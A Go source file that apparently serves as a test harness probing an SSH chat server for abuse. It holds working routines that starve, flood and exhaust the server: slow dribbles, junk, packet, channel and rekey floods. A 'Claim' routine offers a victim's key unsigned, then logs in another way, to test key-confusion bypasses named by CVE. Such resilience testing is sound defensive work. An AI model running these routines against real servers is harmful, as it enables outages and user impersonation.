package abuse

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"time"

	"golang.org/x/crypto/ssh"

	"sshchat/sshchat/chattest/wire"
)

// Stop comes as far as a stage and then says nothing more: a silent connection, a
// version line only, keys exchanged and no login, a login without a session, a session
// without a shell. Each has a limit of its own, which Outcome.After shows.
func (t Target) Stop(ctx context.Context, at Stage) (Outcome, error) {
	return t.run(ctx, plan{upTo: at})
}

// Dribble sends a byte of a version line that never ends at each tick. The ticks may
// come from a ticker or from a test.
func (t Target) Dribble(ctx context.Context, ticks <-chan time.Time) (Outcome, error) {
	return t.run(ctx, plan{upTo: TCP, during: func(ctx context.Context, a *attack) error {
		line := []byte("SSH-2.0-slow")
		for i := 0; ; i++ {
			select {
			case <-ticks:
			case <-ctx.Done():
				return ctx.Err()
			}
			if _, err := a.Write(line[min(i, len(line)-1):][:1]); err != nil {
				return err
			}
			a.sent(1)
		}
	}})
}

// Junk sends bytes that are no SSH at all, or not at this stage: TCP or Kex. What is
// sent after Kex reads as a packet's length, ciphertext and tag.
func (t Target) Junk(ctx context.Context, at Stage, junk []byte) (Outcome, error) {
	return t.run(ctx, plan{upTo: at, during: func(_ context.Context, a *attack) error {
		for len(junk) > 0 {
			n, err := a.Write(junk[:min(len(junk), 4096)])
			a.sent(n)
			if err != nil {
				return err
			}
			junk = junk[n:]
		}
		return nil
	}})
}

// Packet sends one well-framed packet with any payload, after the stage.
func (t Target) Packet(ctx context.Context, after Stage, payload []byte) (Outcome, error) {
	return t.run(ctx, plan{upTo: after, during: func(ctx context.Context, a *attack) error {
		return a.repeat(ctx, 1, func(int) []byte { return payload })
	}})
}

// WindowChanges asks for a terminal, resizes it n times, and hangs up without having
// asked for a shell: the stock handlers leak goroutines and descriptors for it.
func (t Target) WindowChanges(ctx context.Context, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Channel, during: func(ctx context.Context, a *attack) error {
		if err := a.ch.Ask("pty-req", false, wire.PTY("xterm", 80, 24)); err != nil {
			return err
		}
		if err := a.repeat(ctx, n, func(i int) []byte {
			return a.ch.RequestPacket("window-change", false, wire.Window(uint32(i), uint32(i)))
		}); err != nil {
			return err
		}
		return errHangUp
	}})
}

// Resizes is a flood of n resizes in the room. After it, it leaves.
func (t Target) Resizes(ctx context.Context, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Shell, during: func(ctx context.Context, a *attack) error {
		if err := a.repeat(ctx, n, func(i int) []byte {
			return a.ch.RequestPacket("window-change", false, wire.Window(uint32(i), ^uint32(i)))
		}); err != nil {
			return err
		}
		return errHangUp
	}})
}

// Env sends n variables with values of so many bytes, before the shell.
func (t Target) Env(ctx context.Context, n, size int) (Outcome, error) {
	value := string(make([]byte, size))
	return t.run(ctx, plan{upTo: Channel, during: func(ctx context.Context, a *attack) error {
		return a.repeat(ctx, n, func(i int) []byte {
			return a.ch.RequestPacket("env", false, ssh.Marshal(struct{ Name, Value string }{fmt.Sprint("V", i), value}))
		})
	}})
}

// TypeBeforeShell sends n packets of one byte on a session that has no shell. Unread,
// each costs the server some fifty times its size.
func (t Target) TypeBeforeShell(ctx context.Context, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Channel, during: func(ctx context.Context, a *attack) error {
		return a.repeat(ctx, n, func(int) []byte { return a.ch.DataPacket([]byte{'x'}) })
	}})
}

// Flood types n chunks in the room without looking at what comes back.
func (t Target) Flood(ctx context.Context, n int, chunk []byte) (Outcome, error) {
	return t.run(ctx, plan{upTo: Shell, during: func(ctx context.Context, a *attack) error {
		return a.repeat(ctx, n, func(int) []byte { return a.ch.DataPacket(chunk) })
	}})
}

// Channels opens n channels of a kind, such as session, x11 or direct-tcpip, and asks
// nothing of them. Granted and Refused say what became of them.
func (t Target) Channels(ctx context.Context, kind string, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Auth, during: func(ctx context.Context, a *attack) error {
		if err := a.repeat(ctx, n, func(i int) []byte { return wire.OpenPacket(kind, uint32(i), 1<<20, 32<<10, nil) }); err != nil {
			return err
		}
		return a.answers(ctx, n)
	}})
}

// DirectTCP asks to be connected onward to host:port.
func (t Target) DirectTCP(ctx context.Context, host string, port uint32) (Outcome, error) {
	extra := ssh.Marshal(struct { // RFC 4254, 7.2
		Host     string
		Port     uint32
		FromHost string
		FromPort uint32
	}{host, port, "127.0.0.1", 1})
	return t.run(ctx, plan{upTo: Auth, during: func(ctx context.Context, a *attack) error {
		if err := a.WritePacket(wire.OpenPacket("direct-tcpip", 0, 1<<20, 32<<10, extra)); err != nil {
			return err
		}
		return a.answers(ctx, 1)
	}})
}

// TCPForward asks the server to listen for us.
func (t Target) TCPForward(ctx context.Context, port uint32) (Outcome, error) {
	return t.Globals(ctx, 1, "tcpip-forward", ssh.Marshal(struct {
		Host string
		Port uint32
	}{"127.0.0.1", port}))
}

// Globals sends n global requests that want an answer, and waits for the answers.
func (t Target) Globals(ctx context.Context, n int, name string, payload []byte) (Outcome, error) {
	return t.run(ctx, plan{upTo: Auth, during: func(ctx context.Context, a *attack) error {
		if err := a.repeat(ctx, n, func(int) []byte { return wire.GlobalPacket(name, true, payload) }); err != nil {
			return err
		}
		return a.answers(ctx, n)
	}})
}

// Request asks one thing of a session before the shell, such as a subsystem, agent
// forwarding or X11, and waits for the answer.
func (t Target) Request(ctx context.Context, name string, payload []byte) (Outcome, error) {
	return t.run(ctx, plan{upTo: Channel, during: func(ctx context.Context, a *attack) error {
		if err := a.ch.Ask(name, true, payload); err != nil {
			return err
		}
		return a.answers(ctx, 1)
	}})
}

// Subsystem asks for a subsystem, such as sftp.
func (t Target) Subsystem(ctx context.Context, name string) (Outcome, error) {
	return t.Request(ctx, "subsystem", ssh.Marshal(struct{ Name string }{name}))
}

// Exec runs a command and waits until the server closes the channel.
func (t Target) Exec(ctx context.Context, command string) (Outcome, error) {
	return t.run(ctx, plan{upTo: Channel, during: func(ctx context.Context, a *attack) error {
		if err := a.ch.Ask("exec", true, ssh.Marshal(struct{ Command string }{command})); err != nil {
			return err
		}
		return a.until(ctx, func() bool { return a.closed })
	}})
}

// Rekey exchanges keys n times more, one right after the other, and leaves.
func (t Target) Rekey(ctx context.Context, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Auth, alone: func(a *attack) error {
		for range n {
			if err := a.Kex(); err != nil {
				return err
			}
			a.sent(1)
		}
		return errHangUp
	}})
}

// Offers offers n fresh keys without proving one, as an agent with many keys does.
// Granted says how many the server would have taken.
func (t Target) Offers(ctx context.Context, n int) (Outcome, error) {
	return t.run(ctx, plan{upTo: Kex, alone: func(a *attack) error {
		if err := a.StartAuth(); err != nil {
			return err
		}
		for range n {
			var fresh Target
			if err := fresh.fill(); err != nil {
				return err
			}
			if err := a.offer(fresh.Signer.PublicKey()); err != nil {
				return err
			}
			a.sent(1)
		}
		return errHangUp
	}})
}

// offer offers a key and counts the answer.
func (a *attack) offer(key ssh.PublicKey) error {
	err := a.OfferKey(a.User, key)
	switch {
	case err == nil:
		a.out.Granted++
	case errors.Is(err, wire.ErrRefused):
		a.out.Refused++
	default:
		return err
	}
	return nil
}

// Claim offers the victim's key without a signature and then logs in with what it has:
// its own key, or as a guest nothing at all. In the room it says a line and listens
// until the time is over, so that the test sees whom the server took it for
// (CVE-2024-45337, CVE-2026-24058; as a guest CVE-2023-43809).
func (t Target) Claim(ctx context.Context, victim ssh.PublicKey, guest bool, say string) (Outcome, error) {
	return t.run(ctx, plan{
		upTo: Kex,
		alone: func(a *attack) error {
			if err := a.StartAuth(); err != nil {
				return err
			}
			if err := a.offer(victim); err != nil {
				return err
			}
			login := func() error { return a.LoginKey(a.User, a.Signer) }
			if guest {
				login = func() error { return a.LoginGuest(a.User) }
			}
			for i, step := range []func() error{login, a.open, func() error { return a.ch.Shell("xterm", 80, 24) }} {
				if err := step(); err != nil {
					return err
				}
				a.out.Reached = Auth + Stage(i)
			}
			return nil
		},
		during: func(_ context.Context, a *attack) error { return a.ch.Type([]byte(say + "\r")) },
	})
}

// StrayData sends data on a channel that was never opened. A server may end this
// connection for it, and no other.
func (t Target) StrayData(ctx context.Context) (Outcome, error) {
	return t.Packet(ctx, Shell, ssh.Marshal(struct {
		Channel uint32 `sshtype:"94"`
		Data    string
	}{4711, "boo"}))
}

// Twice closes its channel twice.
func (t Target) Twice(ctx context.Context) (Outcome, error) {
	return t.run(ctx, plan{upTo: Shell, during: func(ctx context.Context, a *attack) error {
		return a.repeat(ctx, 2, func(int) []byte {
			return binary.BigEndian.AppendUint32([]byte{wire.MsgChannelClose}, a.ch.Remote)
		})
	}})
}
